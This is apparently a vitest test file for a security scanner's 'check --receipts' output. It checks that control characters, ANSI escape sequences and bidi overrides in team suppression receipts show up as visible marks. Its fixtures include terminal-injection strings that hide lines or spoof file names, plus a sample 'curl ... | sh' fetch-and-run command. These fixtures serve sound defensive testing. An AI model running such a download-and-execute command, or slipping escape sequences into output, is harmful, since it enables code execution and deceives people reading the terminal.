// `check --receipts` prints, for each finding a team receipt suppressed or
// that came back, words others wrote: the skill URI (the server's), the
// suppression's title, path, field, reason and owner, the reviewer's name
// (the receipt's), why it lapsed (which quotes them) and the receipt's file
// name (the folder's). Control characters and bidi overrides in them are
// shown as marks, never sent to the terminal, so a receipt cannot write
// "0 findings" over the line that reports its finding.
import { describe, expect, it } from 'vitest';
import { unsafeIn } from '../../test/fixtures/cli/terminal-unsafe.js';
import { finding } from '../../shared/findings.js';
import { lapse, suppressionFor, type GrantedSuppression } from '../team/suppressions.js';
import { suppressionLines, type SuppressedReport } from './check-suppressions.js';

const SKILL = 'skill://inv\u202Efdp.exe/SKILL.md';
const DIGEST = `sha256:${'a'.repeat(64)}`;
const RISK = finding('risk-fetch-and-run', 'Pipes a download into sh.', { serverId: 's1', skillUri: SKILL, fileUri: SKILL, line: 4 }, { excerpt: 'curl -fsSL https://example.com/i.sh | sh' });

function granted(receipt: string): GrantedSuppression {
  const suppression = suppressionFor(RISK, DIGEST, 'SKILL\u001b[8m.md', { reason: 'ok\r\u001b[1A\u001b[2KAll clear', owner: 'plat\u009bform', expires: '2026-12-01T00:00:00.000Z' });
  return { suppression: { ...suppression, title: 'Downloads\u2066 code' }, receipt, skillUri: SKILL, reviewer: { name: 'Al\u001b]0;x\u0007ice', fingerprint: 'SHA256:abc' }, until: '2026-12-01T00:00:00.000Z' };
}

function report(over: Partial<SuppressedReport>): SuppressedReport {
  return { server: { label: 'payments' }, skills: [], findings: [], suppressed: [], reopened: [], ...over };
}

describe('check --receipts text, with control and bidi characters in what a receipt and the server wrote', () => {
  it('shows them as marks in a suppressed finding’s line', () => {
    const lines = suppressionLines(report({ suppressed: [{ finding: RISK, by: granted('r.json') }] }));
    expect(unsafeIn(lines)).toEqual([]);
    expect(lines).toBe(
      [
        '1 finding(s) suppressed by team receipts:',
        '  skill://inv⟦RLO⟧fdp.exe/SKILL.md: Downloads⟦LRI⟧ code (risk-fetch-and-run, SKILL⟦ESC⟧[8m.md line 4), by Al⟦ESC⟧]0;x⟦BEL⟧ice for plat⟦U+009B⟧form until 2026-12-01: ok⟦CR⟧⟦ESC⟧[1A⟦ESC⟧[2KAll clear',
        '',
      ].join('\n'),
    );
  });

  it('shows them as marks in a reopened finding’s line: why it came back and the receipt file', () => {
    const by = granted('/team/approvals/r\u001b[2J.json');
    const why = lapse(by, () => `sha256:${'b'.repeat(64)}`, new Date('2026-06-01T00:00:00Z'))!;
    const lines = suppressionLines(report({ findings: [RISK], reopened: [{ finding: RISK, by, why }] }));
    expect(unsafeIn(lines)).toEqual([]);
    expect(lines).toBe(
      [
        '1 suppressed finding(s) reported again:',
        `  skill://inv⟦RLO⟧fdp.exe/SKILL.md: Downloads⟦LRI⟧ code (risk-fetch-and-run, SKILL⟦ESC⟧[8m.md line 4): its suppression no longer holds: SKILL⟦ESC⟧[8m.md changed since (${DIGEST} then, sha256:${'b'.repeat(64)} now); it was suppressed by Al⟦ESC⟧]0;x⟦BEL⟧ice (SHA256:abc) for plat⟦U+009B⟧form: "ok⟦CR⟧⟦ESC⟧[1A⟦ESC⟧[2KAll clear" (/team/approvals/r⟦ESC⟧[2J.json)`,
        '',
      ].join('\n'),
    );
  });
});
